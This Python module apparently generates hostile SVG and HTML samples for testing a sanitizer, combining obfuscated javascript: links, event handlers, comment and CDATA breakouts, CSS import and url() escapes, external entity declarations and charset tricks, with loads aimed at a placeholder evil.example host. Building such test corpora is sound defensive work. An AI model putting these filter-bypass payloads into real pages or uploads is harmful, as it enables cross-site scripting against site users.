"""SVG and HTML files that run or load something, made by combining every way of writing it with every place."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

EVIL = "https://evil.example/x"
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SCRIPTS = (
    "javascript:hit()",
    "javas&#99;ript:hit()",
    "java&#9;script:hit()",
    " javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\nscript:hit()",
    "vbscript:hit()",
    "data:text/html,&lt;script>hit()&lt;/script>",
    "data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
)
LINKS = (
    '<a href="{}"><rect width="300" height="300"/></a>',
    '<a xlink:href="{}"><rect width="300" height="300"/></a>',
    '<a><set attributeName="href" to="{}"/><rect width="300" height="300"/></a>',
    '<a><animate attributeName="xlink:h&#114;ef" values="{}" dur="1s"/><text>x</text></a>',
    '<use href="{}"/>',
    '<image href="{}" width="9" height="9"/>',
)
HANDLERS = ("onload", "ONLOAD", "onbegin", "onclick", "onfocusin")
HANDLED = (
    '<rect width="9" height="9" {}="hit()"/>',
    '<animate attributeName="x" dur="1s" {}="hit()"/>',
    '<g><set attributeName="{}" to="hit()"/></g>',
)
URLS = (
    f"url({EVIL})",
    f"url('{EVIL}')",
    f"URL( {EVIL} )",
    f"u\\72l({EVIL})",
    f"\\75\\72\\6c({EVIL})",
    f"ur\\6c&#13;&#10;({EVIL})",
    f"url({EVIL}",
    f"url(\\68ttps:{EVIL[6:]})",
    f"image-set('{EVIL}' 1x)",
    f"-webkit-image-set(url({EVIL}) 1x)",
    f"cross-fade(url({EVIL}),url(#a))",
)
STYLED = (
    '<rect width="9" height="9" style="fill:{}"/>',
    '<rect width="9" height="9" filter="{}"/>',
    '<rect width="9" height="9" mask="{}"/>',
    '<rect width="9" height="9"><set attributeName="fill" to="{}"/></rect>',
    '<style>rect{{--x:{};mask:var(--x)}}</style><rect width="9" height="9"/>',
    "<style>text::before{{content:{}</style><text>x</text>",
)
SHEETS = (
    f"@import '{EVIL}';",
    f"@import url({EVIL});",
    f"@\\69mport '{EVIL}';",
    f'@IMPORT "{EVIL}";',
    f"@import/**/'{EVIL}';",
    f"@font-face{{font-family:x;src:url({EVIL})}}",
    f"@namespace x;@import '{EVIL}';",
)
IN_SHEET = (
    "<style>{}</style>",
    "<style><![CDATA[{}]]></style>",
    "<style>@<!-- -->{}</style>",
    "<style>a{{}}<?p q?>{}</style>",
)
FOREIGN = ("script", "iframe", "object", "embed", "meta", "base", "form", "img", "body", "video")
IN_FOREIGN = (
    '<h:{} xmlns:h="http://www.w3.org/1999/xhtml"/>',
    '<foreignObject><h:{} xmlns:h="http://www.w3.org/1999/xhtml"/></foreignObject>',
    '<metadata><{} xmlns="http://www.w3.org/1999/xhtml"/></metadata>',
    "<{}/>",
)
PROLOGS = (
    f'<?xml-stylesheet href="{EVIL}"?>',
    '<!DOCTYPE svg [<!ENTITY x "<script>hit()</script>">]>',
    f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{EVIL}"> %p;]>',
    '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "hit()">]>',
    '<?xml version="1.0" encoding="iso-2022-jp"?>',
    '<?xml version="1.0" encoding="utf-7"?>',
    '<?xml version="1.0" encoding="utf-16"?>',
)
LOADING = (
    "image",
    "feImage",
    "use",
    "pattern",
    "linearGradient",
    "textPath",
    "mpath",
    "script",
    "tref",
)
PAGES = (
    "<script>hit()</script>",
    "<p onclick=hit()>x",
    '<p onclick="hit()">x</p>',
    "<a href='javas&#99;ript:hit()'>x</a>",
    "<a href='javascript&colon;hit()'>x</a>",
    "<a href='java&Tab;script:hit()'>x</a>",
    "<!--><script>hit()</script>-->",
    "<!-- --!><script>hit()</script>-->",
    "<title></title><script>hit()</script>",
    "<title><!--</title><script>hit()</script>-->",
    "<style><!--</style><script>hit()</script>--></style>",
    f"<style>@import '{EVIL}'</style>",
    f'<p style="background:u&#114;l({EVIL})">x</p>',
    f'<p style="background:u\\72l({EVIL})">x</p>',
    f'<img src="{EVIL}">',
    '<img src="x" onerror="hit()">',
    "<svg><script>hit()</script></svg>",
    "<base href='javascript:/x/'>",
    f"<meta http-equiv='refresh' content='0;url={EVIL}'>",
    "<meta charset='iso-2022-jp'>",
    f"<link rel='stylesheet' href='{EVIL}'>",
    f'<table background="{EVIL}"></table>',
    "<p/onclick=hit()>",
    "<details ontoggle='hit()' open>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<plaintext>",
    "<![CDATA[<script>hit()</script>]]>",
    "</p <script>hit()</script>>",
    "\x1b(B<p>x</p>",
)


def hostile_pictures() -> Iterator[str]:
    """SVG files, each of which would run or load something or lead to a script."""
    combined = (
        *product(LINKS, SCRIPTS),
        *product(HANDLED, HANDLERS),
        *product(STYLED, URLS),
        *product(IN_SHEET, SHEETS),
        *product(IN_FOREIGN, FOREIGN),
    )
    for frame, payload in combined:
        yield f"{HEAD}>{frame.replace('{{', '{').replace('}}', '}').replace('{}', payload)}</svg>"
    for element, name in product(LOADING, ("href", "xlink:href")):
        yield f'{HEAD}><{element} {name}="{EVIL}#a"/></svg>'
        yield f'{HEAD}><é:{element} xmlns:é="http://www.w3.org/2000/svg" {name}="{EVIL}"/></svg>'
    for prolog in PROLOGS:
        yield f"{prolog}{HEAD}>é</svg>"
